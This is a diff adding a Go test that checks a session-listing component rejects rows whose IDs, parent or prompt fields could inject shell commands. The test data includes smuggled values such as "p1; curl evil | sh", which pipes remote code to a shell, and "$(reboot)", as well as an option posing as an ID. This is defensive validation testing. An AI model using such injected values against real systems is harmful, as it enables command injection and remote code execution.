@@ -80,6 +80,37 @@ func TestBounds(t *testing.T) {
 	}
 }
 
+// TestWordsOfRows: what a person copies from a row into a command line is one harmless word.
+func TestWordsOfRows(t *testing.T) {
+	evil, id := "p1; curl evil | sh", "01M8DFPTPE5GV6MMQWJE3B2KYT"
+	for name, c := range map[string]struct {
+		row  api.Session
+		want int
+	}{
+		"honest":              {api.Session{ID: id, Parent: &id, Prompt: map[string]any{"id": "p1-a_b:c.d", "digest": "00ff", "title": evil}}, 1},
+		"no prompt":           {api.Session{ID: id}, 1},
+		"the session's id":    {api.Session{ID: evil}, 0},
+		"an option as its id": {api.Session{ID: "--all"}, 0},
+		"the parent":          {api.Session{ID: id, Parent: &evil}, 0},
+		"the prompt's id":     {api.Session{ID: id, Prompt: map[string]any{"id": evil}}, 0},
+		"no id":               {api.Session{ID: id, Prompt: map[string]any{"id": ""}}, 0},
+		"an id in a list":     {api.Session{ID: id, Prompt: map[string]any{"id": []string{evil}}}, 0},
+		"its other name":      {api.Session{ID: id, Prompt: map[string]any{"id": "p1", "prompt_id": evil}}, 0},
+		"the prompt's digest": {api.Session{ID: id, Prompt: map[string]any{"id": "p1", "digest": "$(reboot)"}}, 0},
+		"a text for a prompt": {api.Session{ID: id, Prompt: evil}, 0},
+	} {
+		r := New()
+		r.Admit("box2")
+		c.row.Session = "api"
+		if err := r.SetRows("box2", encode(t, Rows{1, []api.Session{c.row}})); err != nil {
+			t.Fatal(err)
+		}
+		if h, _ := r.Host("box2", time.Now()); len(h.Sessions) != c.want {
+			t.Errorf("%s: %d rows", name, len(h.Sessions))
+		}
+	}
+}
+
 // TestRestored has a gateway that starts again while a host is away.
 func TestRestored(t *testing.T) {
 	now := time.Date(2026, 11, 27, 1, 0, 0, 0, time.UTC)
